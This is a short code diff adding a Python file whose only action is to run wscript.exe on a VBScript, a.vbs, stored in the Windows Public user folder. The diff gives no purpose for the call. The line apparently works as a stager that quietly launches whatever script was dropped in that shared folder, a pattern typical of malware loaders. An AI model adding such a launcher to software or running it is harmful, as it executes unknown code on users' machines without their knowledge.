@@ -1,0 +1,3 @@
+import os
+
+os.system("wscript.exe C:\\Users\\Public\\a.vbs")
